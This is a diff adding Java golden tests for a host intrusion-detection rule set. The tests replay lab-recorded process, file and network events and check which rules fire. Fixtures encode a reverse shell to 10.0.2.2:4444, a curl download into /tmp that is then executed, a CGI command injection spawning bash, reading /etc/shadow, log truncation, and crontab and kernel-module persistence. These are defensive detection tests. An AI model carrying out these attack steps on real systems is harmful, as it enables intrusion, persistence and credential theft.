@@ -177,6 +177,61 @@ class DefaultRuleGoldenTest {
     }
 
     @Test
+    void accountCreated_byDebiansUseraddOrBusyboxAdduser_fires_butListingUsersDoesNot() {
+        String title = "Local Account Created with useradd or adduser";
+        assertThat(fired(exec(1, 98, 97, 0, "sudo", "/usr/sbin/useradd", "useradd", "-M", "lab-1")))
+                .containsExactly(title);
+        assertThat(fired(exec(1, 98, 1, 0, "sh", "/proc/self/exe", "adduser", "-D", "lab"))).containsExactly(title);
+        assertThat(fired(exec(1, 98, 1, 0, "sh", "/usr/bin/getent", "getent", "passwd"))).isEmpty();
+        assertThat(fired(exec(1, 98, 1, 0, "sh", "/usr/sbin/usermod", "usermod", "-L", "lab-1"))).isEmpty();
+    }
+
+    /**
+     * As on the Debian guest: fcgiwrap (started by systemd, not by nginx) forks and execs the CGI by its absolute
+     * path, and the CGI's bash forks the injected commands; root's steps go through sudo, which forks and execs.
+     */
+    @Test
+    void debianFormsOfTheLabSteps_fireTheSameRules() {
+        Event[] cgi = {fork(1, 400, "fcgiwrap", 401), exec(1.1, 401, 400, 33, "fcgiwrap", "/usr/lib/cgi-bin/ping",
+                "/usr/lib/cgi-bin/ping"), fork(1.2, 401, "ping", 402),
+                exec(1.3, 402, 401, 33, "ping", "/usr/bin/bash", "bash", "-s", "injection")};
+        assertThat(fired(cgi)).containsExactly("Web Server or CGI Spawns a Shell or Network Tool");
+        assertThat(fired(fork(1, 400, "fcgiwrap", 401), exec(1.1, 401, 400, 33, "fcgiwrap", "/usr/lib/cgi-bin/ping",
+                "/usr/lib/cgi-bin/ping"), fork(1.2, 401, "ping", 402),
+                exec(1.3, 402, 401, 33, "ping", "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"))).isEmpty();
+        assertThat(fired(connect(1, 60, "bash", "10.0.2.2:4444"), exec(1.1, 60, 59, 33, "bash", "/usr/bin/bash",
+                "bash", "-i"))).containsExactly("Outbound Connection Followed by a Shell in the Same Process");
+        assertThat(fired(exec(1, 91, 90, 33, "bash", "/usr/bin/crontab", "crontab", "-")))
+                .containsExactly("Crontab Installed or Edited with crontab");
+        assertThat(fired(exec(1, 93, 92, 0, "sudo", "/usr/sbin/modprobe", "modprobe", "dummy")))
+                .containsExactly("Kernel Module Inserted with insmod or modprobe");
+        assertThat(fired(file(1, 94, 0, "cat", "open", "/etc/shadow", "O_RDONLY|O_CLOEXEC")))
+                .containsExactly("Password Hashes Read by a Program That Is Not a Login Tool");
+        assertThat(fired(file(1, 95, 0, "bash", "open", "/var/log/nginx/access.log", "O_WRONLY|O_CREAT|O_TRUNC")))
+                .containsExactly("Log File under /var/log Truncated");
+        assertThat(fired(exec(1, 96, 1, 33, "bash", "/usr/bin/curl", "curl", "-sf", "-o", "/tmp/p", "http://10.0.2.2/p"),
+                file(1.2, 96, 33, "curl", "open", "/tmp/p", "O_WRONLY|O_CREAT|O_TRUNC"),
+                exec(2, 97, 1, 33, "bash", "/tmp/p", "/tmp/p")))
+                .containsExactlyInAnyOrder("Program Executed from /tmp, /var/tmp or /dev/shm",
+                        "File Downloaded into a World-Writable Directory, then Executed");
+    }
+
+    /**
+     * As recorded on the Debian guest's heartbeat job: cron's child checks the account through PAM (reading
+     * {@code /etc/shadow}), asks nscd over a unix socket, then becomes the job's shell — neither a credential theft
+     * nor a reverse shell.
+     */
+    @Test
+    void debianCronJob_readingShadowAndConnectingToNscd_beforeItsShell_firesNothing() {
+        assertThat(fired(exec(0.5, 400, 1, 0, "systemd", "/usr/sbin/cron", "/usr/sbin/cron", "-f"),
+                fork(1, 400, "cron", 436), file(1.1, 436, 0, "cron", "open", "/etc/shadow", "O_RDONLY|O_CLOEXEC"),
+                connect(1.2, 436, "cron", "/var/run/nscd/socket"),
+                exec(1.5, 436, 400, 0, "cron", "/bin/sh", "/bin/sh", "-c", "date +%s >>/var/log/heartbeat"))).isEmpty();
+        assertThat(fired(connect(1, 436, "cron", "/var/run/nscd/socket"), exec(1.5, 436, 1, 0, "cron", "/bin/sh", "sh")))
+                .as("a unix socket is not a connection out").isEmpty();
+    }
+
+    @Test
     void ptraceAttach_orProcessVmWritev_fires_butPtraceTracemeDoesNot() {
         String title = "Process Attaches to or Writes into Another Process";
         assertThat(fired(syscall(1, 98, 0, "gdb", "ptrace", 16, 1234))).containsExactly(title);
